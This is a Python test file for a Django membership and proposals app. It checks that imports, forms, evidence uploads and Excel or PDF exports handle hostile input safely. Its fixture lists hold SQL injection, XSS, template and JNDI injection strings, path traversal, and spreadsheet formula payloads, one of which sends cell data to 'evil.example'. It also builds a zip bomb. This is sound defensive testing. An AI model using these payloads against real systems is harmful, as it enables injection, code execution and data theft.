"""Property tests (hypothesis) for hostile input: the member/group import, a page form, evidence uploads and the
exports (a title or name that reads as a formula, markup or a lone surrogate in Excel and in the duty-record PDF).

Over-long strings, control characters, SQL and script fragments, broken xlsx bytes, a zip bomb and images with
wrong headers: each ends in a clear error (``DomainError`` / a form error / a row report) with nothing saved,
or is stored verbatim (never interpreted), and never in a 5xx.
"""

from __future__ import annotations

import io
import re
import time
import tracemalloc
import zipfile
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from activities.models import Evidence
from core.exceptions import DomainError
from groups.models import Member
from groups.resources import MemberResource
from groups.services import table_import
from tests import factories as f

pytestmark = pytest.mark.django_db

SETTINGS = settings(
    max_examples=25, deadline=None, derandomize=True, database=None, suppress_health_check=list(HealthCheck)
)

HOSTILE = [
    "'; DROP TABLE groups_member; --",
    "1 OR 1=1",
    '" OR ""="',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{ 7*7 }}",
    "{% debug %}",
    "${jndi:ldap://x}",
    "../../etc/passwd",
    "=CMD|' /C calc'!A0",
    "\u202e\u200b\ufeff",
    "\x00",
    "\x1b[31m",
    "\r\n\t",
    "𠜎𠜱𠝹",
    "Ｓｅｌｅｃｔ",
    # formulas in a spreadsheet, markup and fetches in a PDF (issue 14)
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '<img src="http://127.0.0.1:1/x.png"/>',
    "<img src='/etc/passwd'/>",
    "a<b",
    "<b>粗</b>",
    "R&D &amp;",
    "x\ud800y",
    # markup and entities, spreadsheet formulas, bare controls, a lone surrogate, a number beyond 64 bits
    "<img src=x>",
    "<b>",
    "&",
    "<",
    '=HYPERLINK("x")',
    "+1",
    "-1",
    "@SUM(1)",
    "\t",
    "\r",
    "\ud800",
    "99999999999999999999",
]
hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(min_size=0, max_size=50),
    st.text(min_size=300, max_size=3000),  # over-long for every model field
    st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE), st.text(max_size=20)),
)

HEADER = [
    "政协组织",
    "届次",
    "姓名",
    "性别",
    "界别",
    "专门委员会",
    "党派",
    "常委",
    "工作单位",
    "职务",
    "街镇",
    "手机",
    "电子邮箱",
]


@pytest.fixture
def setup(world):
    from groups.models import Term

    Term.objects.filter(committee=world.district).update(number=9)
    f.SectorFactory(committee=world.district, name="教育界")
    return world


def _csv(rows) -> bytes:
    import csv

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(HEADER)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8", "surrogatepass")  # a lone surrogate: bytes that are not UTF-8


def _as_received(text: str) -> str:
    """What the server reads for ``text`` sent as UTF-8 (a lone surrogate's bytes become U+FFFD)."""
    return text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")


def _form_body(data: dict) -> str:
    """A urlencoded body as a browser would send it, lone surrogates included (the test client cannot)."""
    from urllib.parse import quote_plus

    return "&".join(f"{k}={quote_plus(str(v).encode('utf-8', 'surrogatepass'))}" for k, v in data.items())


def _import(data: bytes, file_format: str, actor):
    try:
        return table_import(resource_class=MemberResource, data=data, file_format=file_format, actor=actor)
    except DomainError as exc:
        assert exc.messages and all(str(m) for m in exc.messages)
        return None


# --- Import ---------------------------------------------------------------------------------------------------


@SETTINGS
@given(data=st.binary(max_size=4096), file_format=st.sampled_from(["xlsx", "csv", "xls"]))
def test_import_of_random_bytes_is_a_clear_error_and_saves_nothing(setup, data, file_format):
    before = Member.objects.count()
    report = _import(data, file_format, setup.district_staff)
    assert report is None or not report.created or report.ok
    if report is None or not report.ok:
        assert Member.objects.count() == before


@SETTINGS
@given(
    name=hostile_text,
    work_unit=hostile_text,
    phone=st.one_of(st.sampled_from(["13912345678"]), hostile_text),
    email=hostile_text,
)
def test_import_of_hostile_cells_reports_rows_or_stores_them_verbatim(setup, name, work_unit, phone, email):
    before = Member.objects.count()
    row = ["东湖区政协", 9, name, "男", "教育界", "", "无党派人士", "是", work_unit, "校长", "东湖街道", phone, email]
    report = _import(_csv([row]), "csv", setup.district_staff)
    if report is None or not report.ok:
        assert Member.objects.count() == before
        assert report is None or all(str(e) for e in report.errors)
    else:
        saved = Member.objects.order_by("-pk").first()
        assert saved.name == _as_received(name).strip() and len(saved.name) <= 100  # stored verbatim
        Member.objects.filter(pk=saved.pk).delete()


def _truncated_xlsx() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(HEADER)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "mangle",
    [
        lambda b: b[: len(b) // 2],  # cut short
        lambda b: b[:100] + b"\x00" * 200 + b[300:],  # corrupted central data
        lambda b: b"PK\x03\x04" + b"\xff" * 64,  # a zip header and nothing else
        lambda b: b"<html><script>alert(1)</script></html>",  # not a workbook at all
    ],
)
def test_a_broken_xlsx_is_a_clear_error(setup, mangle):
    before = Member.objects.count()
    with pytest.raises(DomainError):
        table_import(
            resource_class=MemberResource,
            data=mangle(_truncated_xlsx()),
            file_format="xlsx",
            actor=setup.district_staff,
        )
    assert Member.objects.count() == before


def _zip_bomb(expanded_mb: int = 400) -> bytes:
    """An xlsx-shaped zip whose sheet XML inflates to ``expanded_mb`` MB (about 1000:1), written in chunks."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            chunk = b" " * (1024 * 1024)
            for _ in range(expanded_mb):
                sheet.write(chunk)
    return out.getvalue()


def test_a_zip_bomb_is_refused_without_inflating_it(setup):
    bomb = _zip_bomb()
    assert len(bomb) < 2 * 1024 * 1024  # small on the wire
    before = Member.objects.count()
    tracemalloc.start()
    started = time.monotonic()
    try:
        with pytest.raises(DomainError, match="MB"):
            table_import(resource_class=MemberResource, data=bomb, file_format="xlsx", actor=setup.district_staff)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 20 * 1024 * 1024, f"the import used {peak // (1024 * 1024)} MB on a zip bomb"
    assert time.monotonic() - started < 5
    assert Member.objects.count() == before


# --- A page form ----------------------------------------------------------------------------------------------


@SETTINGS
@given(title=hostile_text, suggestions=hostile_text, analysis=hostile_text)
def test_proposal_form_with_hostile_text_is_a_form_error_or_saved_verbatim(world, client, title, suggestions, analysis):
    from proposals.models import Proposal

    client.force_login(world.member)
    before = Proposal.objects.count()
    response = client.post(
        reverse("proposals:create"),
        _form_body(
            {
                "kind": "member",
                "title": title,
                "category": Proposal._meta.get_field("category").choices[0][0],
                "analysis": analysis,
                "suggestions": suggestions,
            }
        ),
        content_type="application/x-www-form-urlencoded",
    )
    assert response.status_code in (200, 302, 400), response.status_code
    if response.status_code == 302:
        saved = Proposal.objects.order_by("-pk").first()
        assert saved.title == _as_received(title).strip()  # stored as text, never interpreted
        saved.delete()
    else:
        assert Proposal.objects.count() == before
        if response.status_code == 400:
            assert b"invalid-feedback" in response.content or b"alert" in response.content


@pytest.mark.parametrize("text", HOSTILE)
def test_every_hostile_string_in_a_proposal_is_a_form_error_or_saved_verbatim(world, client, text):
    """Each hostile string for sure (the property test above samples them): in the title and the body."""
    from proposals.models import Proposal

    client.force_login(world.member)
    response = client.post(
        reverse("proposals:create"),
        _form_body(
            {
                "kind": "member",
                "title": f"关于{text}的建议",
                "category": Proposal._meta.get_field("category").choices[0][0],
                "analysis": text,
                "suggestions": f"建议{text}",
            }
        ),
        content_type="application/x-www-form-urlencoded",
    )
    assert response.status_code in (200, 302, 400), response.status_code
    if response.status_code == 302:
        saved = Proposal.objects.get()
        assert saved.title == _as_received(f"关于{text}的建议") and saved.analysis == _as_received(text).strip()
    else:
        assert not Proposal.objects.exists()


@SETTINGS
@given(
    title=hostile_text,
    place=hostile_text,
    summary=hostile_text,
    number=st.sampled_from(["99999999999999999999", "-1", "+1", "²", "1e400", "0x10", "", "<b>"]),
)
def test_activity_form_with_hostile_text_and_numbers_is_a_form_error_or_saved_verbatim(
    world, client, title, place, summary, number
):
    from activities.models import Activity

    client.force_login(world.convener)
    before = Activity.objects.count()
    starts = (timezone.localtime() + timedelta(days=3)).strftime("%Y-%m-%d %H:%M")
    response = client.post(
        reverse("activities:activity_new", args=[world.group.pk]),
        _form_body(
            {
                "title": title,
                "kind": Activity.Kind.STUDY,
                "target": "",
                "contact_point": number,
                "six_item": "",
                "plan_item": number,
                "starts_at": starts,
                "ends_at": "",
                "place": place,
                "summary": summary,
                "suggestions": "",
                "version": number,
            }
        ),
        content_type="application/x-www-form-urlencoded",
    )
    assert response.status_code in (200, 302), response.status_code
    if response.status_code == 302:
        saved = Activity.objects.order_by("-pk").first()
        assert (saved.title, saved.place) == (_as_received(title).strip(), _as_received(place).strip())
        saved.delete()
    else:
        assert Activity.objects.count() == before


# --- Evidence uploads with wrong headers ------------------------------------------------------------------------


def _png() -> bytes:
    from tests.groups.factories import png_bytes

    return png_bytes()


WRONG_FILES = [
    ("photo.png", b"GIF89a" + b"\x00" * 64),  # a GIF header, and not even a GIF
    ("photo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64),  # a PNG signature on garbage
    ("photo.jpg", b"\xff\xd8\xff\xe0" + b"JFIF" + b"\xff" * 64),  # a JPEG start, truncated
    ("photo.png", b"<svg onload=alert(1)></svg>"),  # script in an "image"
    ("photo.png", b"MZ\x90\x00" + b"\x00" * 64),  # an executable
    ("photo.png", _png()[:40]),  # a real PNG, cut short
    ("report.pdf", b"<html>not a pdf</html>"),
]


@pytest.fixture
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")


@pytest.mark.parametrize("name, content", WRONG_FILES)
def test_evidence_with_a_wrong_header_is_refused_and_nothing_saved(world, client, _media, name, content):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.groups.factories import ActivityFactory

    activity = ActivityFactory(group=world.group)
    client.force_login(world.convener)
    response = client.post(
        reverse("activities:evidence_upload", args=[activity.pk]),
        {"file": SimpleUploadedFile(name, content, content_type="image/png"), "caption": "现场"},
        follow=True,
    )
    assert response.status_code == 200
    assert not Evidence.objects.filter(activity=activity).exists()
    assert (
        "alert-danger" in response.content.decode()
        or "错误" in response.content.decode()
        or response.context["messages"]
    )


@SETTINGS
@given(content=st.binary(max_size=2048))
def test_evidence_service_refuses_random_bytes(world, _media, content):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from activities.services.activities import evidence_upload
    from tests.groups.factories import ActivityFactory

    activity = ActivityFactory(group=world.group)
    try:
        evidence_upload(
            activity_id=activity.pk,
            actor=world.convener,
            upload=SimpleUploadedFile("x.png", content, content_type="image/png"),
        )
    except DomainError:
        assert not Evidence.objects.filter(activity=activity).exists()
    else:  # random bytes that happen to be a valid image or PDF: stored under the sniffed type
        assert content.startswith(b"%PDF-") or Evidence.objects.get(activity=activity).kind == "photo"


# --- Exports: hostile titles and names ------------------------------------------------------------------------


def _storable(text: str) -> str:
    """What a database can hold at all (no lone surrogates; PostgreSQL takes no NUL)."""
    return re.sub("[\ud800-\udfff\x00]", "", text)


@SETTINGS
@given(title=hostile_text, name=hostile_text)
def test_ledger_export_keeps_hostile_text_as_text(world, title, name):
    """Whatever a title or group name holds, the ledger workbook has no formula and shows the text."""
    from openpyxl import load_workbook

    from activities.exports import ledger_workbook
    from activities.models import Activity
    from activities.selectors.activities import ledger
    from tests.groups.factories import ActivityFactory

    activity = ActivityFactory(group=world.group)
    Activity.objects.filter(pk=activity.pk).update(title=_storable(title)[:200])  # as any door could store it
    world.group.name = _storable(name)[:100]
    world.group.save(update_fields=["name"])
    out = io.BytesIO()
    ledger_workbook(ledger(Activity.objects.filter(pk=activity.pk))).save(out)
    cells = [c for row in load_workbook(out).active.iter_rows(min_row=2) for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")))
    activity.delete()


@SETTINGS
@given(title=hostile_text)
def test_duty_record_pdf_prints_hostile_titles_without_fetching(world, title):
    """Any title makes a PDF (never a 500, never a fetch or a file read)."""
    from datetime import date
    from decimal import Decimal
    from types import SimpleNamespace
    from unittest import mock

    from assessments.pdf import duty_record_pdf
    from assessments.record_page import CategoryRow, LineState, LineWords, RecordPage, Row, RowGroup

    one, zero = Decimal(1), Decimal("0.00")
    row = Row(
        date(2026, 1, 2),
        title[:50],
        "",
        title,
        None,
        None,
        one,
        one,
        LineWords(LineState.SCORED, title[:20], (title[:40],)),
    )
    page = RecordPage(
        year=2026,
        quarter=2,
        period=title[:20],
        total=zero,
        grade=title[:10],
        grade_reason=title,
        base=zero,
        bonus=zero,
        bonus_raw=zero,
        bonus_cap=None,
        deductions=zero,
        categories=(CategoryRow(title[:30], one, None, one),),
        missing=(title[:30],),
        locked_quarter=None,
        total_label=title[:20],
        period_points=one,
        period_raw=one + one,
        groups=(RowGroup(title[:30], title[:30], (row,), one, True),),
    )
    record = SimpleNamespace(member=world.member_record)
    with mock.patch("reportlab.lib.utils.rlUrlRead", side_effect=AssertionError("fetched")):
        content = duty_record_pdf(record, page)
    assert content.startswith(b"%PDF-")
